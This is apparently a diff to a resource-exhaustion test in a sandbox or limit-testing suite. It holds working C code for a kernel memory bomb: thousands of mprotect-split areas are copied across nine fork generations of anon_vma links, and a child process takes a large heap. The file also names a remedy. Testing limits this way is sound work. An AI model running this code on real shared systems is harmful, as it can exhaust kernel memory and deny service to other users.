@@ -6,7 +6,7 @@
  * Means: an area that was written to has an anon_vma, and keeps it when its pages are given back; a
  *        copy of it, by fork(2), has one of its own and a link to that of each ancestor. In the
  *        tenth generation an area takes 900 bytes of the kernel's in place of 200, and none of them
- *        is in anybody's resident memory. A heap is there besides.
+ *        is in anybody's resident memory. Another child has a heap besides.
  */
 #include "attacks/attack.h"
 #include "attacks/memory-bomb/heap.h"
@@ -14,16 +14,23 @@
 #include <sys/mman.h>
 #include <unistd.h>
 
-enum { AREAS = 32000, GENERATIONS = 9, STEP = 1000, HEAP_MIB = 150 };
+enum { AREAS = 22000, GENERATIONS = 9, STEP = 1000, HEAP_MIB = 215 };
 
 static enum claim run(const struct brief *b)
 {
-	char *range = mmap(NULL, AREAS * PAGE, PROT_READ | PROT_WRITE,
-			   MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+	pid_t heap;
+	char *range;
 
-	if (range == MAP_FAILED)
-		return failed("mmap");
 	attempting(b);
+	heap = fork();
+	if (heap < 0)
+		return denied("fork");
+	if (heap == 0)
+		_exit(take_heap(HEAP_MIB << 20) && sleep(5));
+	range = mmap(NULL, AREAS * PAGE, PROT_READ | PROT_WRITE,
+		     MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+	if (range == MAP_FAILED)
+		return denied("mmap");
 	for (long i = 0; i < AREAS; i += 2)
 		if (mprotect(range + i * PAGE, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC))
 			return denied("mprotect");
@@ -40,7 +47,7 @@ static enum claim run(const struct brief *b)
 		if (child > 0 && i)
 			_exit((int)sleep(5));
 		if (child > 0)
-			return take_heap(HEAP_MIB << 20) ? hold() : denied("malloc");
+			return hold();
 	}
 	sleep(5);
 	_exit(0);
@@ -48,7 +55,8 @@ static enum claim run(const struct brief *b)
 
 const struct attack attack = {
 	.effect = "more of the kernel's memory than the budget",
-	.means = "32000 areas with an anon_vma each, in 9 generations that link to all before, beside a heap",
+	.means = "22000 areas with an anon_vma each, in 9 generations that link to all before; a "
+		 "heap",
 	.oracle = "usage:memory",
 	.attack_id = "T1499.001, CWE-770",
 	.remedy = "count an area as what it costs in its generation; deny fork; a memory cgroup",
